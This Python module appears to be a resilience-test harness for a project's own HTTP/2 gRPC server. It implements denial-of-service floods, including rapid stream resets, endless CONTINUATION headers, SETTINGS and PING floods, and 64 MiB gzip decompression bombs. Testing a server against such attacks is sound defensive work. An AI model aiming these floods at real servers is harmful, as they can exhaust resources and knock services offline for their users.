"""Floods of legal, or nearly legal, HTTP/2 frames, as fast as one connection allows."""

import asyncio
import itertools
import socket
import struct
import time
import zlib
from collections.abc import Callable, Iterator

import hpack

from tests.attacks.attack import MIB, Attack
from tests.server.connections.raw_http2 import PREFACE, frame, headers

_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = (
    *(0, 1, 2, 3, 4, 6, 8, 9),
)
_UNKNOWN = 0x77
_END_STREAM, _END_HEADERS = 1, 4
_INITIAL_WINDOW_SIZE = 4
_PATH = b"/embedgrpc.v1.EmbeddingService/Embed"
# What is handed to the kernel at once.
_CHUNK_BYTES = 256 * 1024
_BOMB_BYTES = 64 * MIB

Frames = Callable[[], Iterator[bytes]]


def http2_frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    """Return a frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _request_headers(*extra: tuple[bytes, bytes]) -> bytes:
    """Return a header block that does not change the compression state."""
    fields = [hpack.NeverIndexedHeaderTuple(*field) for field in headers(_PATH, *extra)]
    return hpack.Encoder().encode(fields, huffman=False)


def _again(data: bytes) -> Frames:
    """Repeat the same frames."""
    chunk = data * max(_CHUNK_BYTES // len(data), 1)
    return lambda: itertools.repeat(chunk)


def _resets() -> Iterator[bytes]:
    """Open calls and reset each at once."""
    block = _request_headers()
    for stream in itertools.count(1, 2):
        yield http2_frame(_HEADERS, block, flags=_END_HEADERS, stream=stream) + http2_frame(
            _RST_STREAM, struct.pack(">I", 8), stream=stream
        )


def _headers_without_end() -> Iterator[bytes]:
    """Send headers with endless CONTINUATION frames."""
    yield http2_frame(_HEADERS, _request_headers(), stream=1)
    field = b"\x00\x01x\x7f\x81\x7e" + b"y" * 254
    continuation = http2_frame(_CONTINUATION, field * 50, stream=1)
    yield from itertools.repeat(continuation * 20)


def _empty_data() -> Iterator[bytes]:
    """Send an empty body in very many DATA frames."""
    yield http2_frame(_HEADERS, _request_headers(), flags=_END_HEADERS, stream=1)
    yield from itertools.repeat(http2_frame(_DATA, stream=1) * 20_000)


def _bombs() -> Iterator[bytes]:
    """Send messages that inflate to a thousand times their size."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = deflate.compress(bytes(_BOMB_BYTES)) + deflate.flush()
    body = b"\x01" + frame(packed)[1:]
    block = _request_headers((b"grpc-encoding", b"gzip"))
    parts = [body[at : at + 16_384] for at in range(0, len(body), 16_384)]
    for stream in itertools.count(1, 2):
        data = [http2_frame(_DATA, part, stream=stream) for part in parts[:-1]]
        data.append(http2_frame(_DATA, parts[-1], flags=_END_STREAM, stream=stream))
        yield http2_frame(_HEADERS, block, flags=_END_HEADERS, stream=stream) + b"".join(data)


async def _flood(target: str, seconds: float, frames: Frames, connections: int) -> str:
    until = time.monotonic() + seconds
    sent = await asyncio.gather(
        *(_flood_one(target, until, frames) for _ in range(connections)), return_exceptions=True
    )
    done = [one for one in sent if not isinstance(one, BaseException)]
    opened = sum(count for count, _ in done)
    size = sum(bytes_sent for _, bytes_sent in done)
    return f"{size / MIB:.0f} MiB, {opened} connections"


async def _flood_one(target: str, until: float, frames: Frames) -> tuple[int, int]:
    """Flood until the time is over; reconnect whenever the server closes the connection."""
    host, _, port = target.rpartition(":")
    opened = sent = 0
    while time.monotonic() < until:
        try:
            reader, writer = await asyncio.open_connection(host, int(port))
        except OSError:
            await asyncio.sleep(0.01)
            continue
        opened += 1
        # Else what the kernel takes in goes on for a while after the flood.
        writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, MIB)
        reading = asyncio.create_task(_read_all(reader))
        try:
            writer.write(PREFACE + http2_frame(_SETTINGS))
            for chunk in frames():
                writer.write(chunk)
                sent += len(chunk)
                await writer.drain()
                # Draining gives way to others only where it must wait.
                await asyncio.sleep(0)
                if reading.done() or time.monotonic() > until:
                    break
        except ConnectionError:
            pass  # hanging up is a good answer
        finally:
            reading.cancel()
            writer.transport.abort()
    return opened, sent


async def _read_all(reader: asyncio.StreamReader) -> None:
    """Discard the server's responses, so that it need not buffer them."""
    try:
        while await reader.read(MIB):
            pass
    except ConnectionError:
        pass  # hanging up is a good answer


def _attack(
    name: str, what: str, frames: Frames, *, connections: int = 1, in_suite: bool = False
) -> Attack:
    async def run(target: str, seconds: float) -> str:
        return await _flood(target, seconds, frames, connections)

    return Attack(name=name, what=what, run=run, test_s=2.0, in_suite=in_suite)


def _setting(identifier: int, value: int) -> bytes:
    return struct.pack(">HI", identifier, value)


# A window that changes all the time makes more work of each frame.
_SETTINGS_FRAMES = _again(
    http2_frame(_SETTINGS, _setting(_INITIAL_WINDOW_SIZE, 65_535))
    + http2_frame(_SETTINGS, _setting(_INITIAL_WINDOW_SIZE, 65_534))
)

ATTACKS = (
    _attack("settings", "SETTINGS frames at full speed", _SETTINGS_FRAMES, in_suite=True),
    _attack("settings-4", "the same on 4 connections", _SETTINGS_FRAMES, connections=4),
    _attack(
        "priority",
        "PRIORITY frames at full speed",
        _again(http2_frame(_PRIORITY, struct.pack(">IB", 0, 16), stream=1)),
    ),
    _attack("pings", "PING frames at full speed", _again(http2_frame(_PING, bytes(8)))),
    _attack(
        "window-updates",
        "WINDOW_UPDATE frames at full speed",
        _again(http2_frame(_WINDOW_UPDATE, struct.pack(">I", 1), stream=1)),
    ),
    _attack(
        "unknown-frames",
        "frames of a type that there is not",
        _again(http2_frame(_UNKNOWN, b"?" * 16)),
    ),
    _attack("continuations", "headers without an end", _headers_without_end),
    _attack("empty-data", "a body of empty DATA frames", _empty_data),
    _attack("resets", "calls that are taken back at once", _resets),
    _attack(
        "gzip-bombs",
        "messages of 64 MiB in 64 KiB of gzip",
        _bombs,
        connections=4,
    ),
)
